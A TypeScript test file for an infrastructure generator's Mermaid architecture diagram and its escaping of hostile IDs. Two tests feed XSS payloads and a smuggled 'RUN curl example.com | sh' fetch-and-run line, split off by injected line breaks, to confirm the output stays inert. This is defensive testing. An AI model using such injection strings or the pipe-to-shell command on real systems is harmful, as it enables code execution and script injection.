/** build/architecture.md: the seed example's personas, store and API, and who may use whom. */
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  diagramOf,
  EVERY_API_ARROWS_UP_TO,
  EVERY_API_NODE,
  renderMermaid,
} from 'infra-generator/internal/targets/diagram/diagram';
import { ApiServer, onDeploy, rootId } from 'infra-generator';
import { appOf } from 'infra-generator/internal/core/app';
import { oneLine } from 'infra-generator/internal/targets/shared';
import { tempProject } from '../support/temp-project.ts';
import { buildInto, seedApp } from '../support/seed-app.ts';

const test = suite('architecture diagram');
const DB = 'my-app.customer-server.db';
const API = 'my-app.customer-server.api';
const CLIENT = 'my-app.example-client';

test('the seed example: client calls the API, only the API uses the store', () => {
  const diagram = diagramOf(appOf(seedApp())!);
  const nodes = Object.fromEntries(diagram.nodes.map((n) => [n.id, n.role]));
  assert.equal(nodes, { [DB]: 'store', [API]: 'api', [CLIENT]: 'persona' });
  const edges = diagram.edges.map((e) => `${e.from} ${e.kind} ${e.to}`).sort();
  assert.equal(edges, [`${API} uses ${DB}`, `${CLIENT} calls ${API}`]);
  const text = renderMermaid(diagram);
  assert.ok(text.startsWith('flowchart LR\n'));
  assert.is(text.split('\n').filter((l) => l.includes('-->')).length, 2);
});

test('past ten APIs, a persona that may call every API gets one arrow to them all', () => {
  const id = rootId('many');
  const apis = Array.from({ length: EVERY_API_ARROWS_UP_TO + 1 }, (_, i) => new ApiServer(id`api-${i}`, { uses: [] }));
  onDeploy(id`everything`, async () => {});
  onDeploy(id`one`, async () => {}, { uses: [apis[0]] });
  const diagram = diagramOf(appOf(id)!);
  const edges = diagram.edges.map((e) => `${e.from} ${e.kind} ${e.to}`).sort();
  assert.equal(edges, [`many.everything calls ${EVERY_API_NODE}`, 'many.one calls many.api-0']);
  assert.ok(diagram.nodes.some((n) => n.id === EVERY_API_NODE && n.role === 'api'));
  assert.match(renderMermaid(diagram), 'every ApiServer<br/>any of them (declares no uses)');
});

test('the build writes build/architecture.md and says so', async () => {
  const project = tempProject();
  try {
    const { code, output } = await buildInto(seedApp(), project);
    assert.is(code, 0, output);
    assert.match(output, 'Wrote starter/build/architecture.md');
    const text = readFileSync(join(project.buildDir, 'architecture.md'), 'utf8');
    assert.match(text, '```mermaid\nflowchart LR\n');
    for (const id of [DB, API, CLIENT]) assert.match(text, id);
    assert.match(text, /-->\|calls\|/);
    assert.match(text, /-->\|uses\|/);
  } finally {
    project.remove();
  }
});

test('what an ID holds stays text: no HTML, no fence, no line of its own in architecture.md', async () => {
  const hostile = '<img src=x onerror=alert(1)>';
  const id = rootId(`app ${hostile}`);
  const api = new ApiServer(id`\`\`\`</div><script>alert(1)</script>`);
  onDeploy(id`*caller*`, async () => {}, { uses: [api] });
  const project = tempProject();
  try {
    const { code, output } = await buildInto(id, project);
    assert.is(code, 0, output);
    const text = readFileSync(join(project.buildDir, 'architecture.md'), 'utf8');
    assert.not.match(text, /<(img|script|\/div)/i, 'no raw HTML');
    assert.equal(
      text.split('\n').filter((line) => line.startsWith('```')),
      ['```mermaid', '```'],
      "the only fence lines are the chart's own",
    );
    assert.match(text, '# Architecture of app &lt;img src=x onerror=alert(1)&gt;\n');
    assert.match(text, '#96;#96;#96;#60;/div#62;#60;script#62;alert(1)#60;/script#62;');
    const dockerfile = readFileSync(join(project.buildDir, 'Dockerfile'), 'utf8');
    assert.match(dockerfile.split('\n')[0], `for app ${hostile}: do not edit`);
  } finally {
    project.remove();
  }
});

test('the writers escape line breaks even where no ID could hold one', () => {
  const evil = 'x\n```\n<script>alert(1)</script>\r\u2028RUN curl example.com | sh';
  const text = renderMermaid({ nodes: [{ id: evil, kind: 'Worker', role: 'persona' }], edges: [] });
  assert.is(text.split('\n').length, 3, text);
  assert.not.match(text, /<script/);
  assert.is(oneLine(evil).includes('\n'), false);
  assert.is(oneLine('a\nb\u2028c\u0085d'), 'a\\u{a}b\\u{2028}c\\u{85}d');
});

test.run();
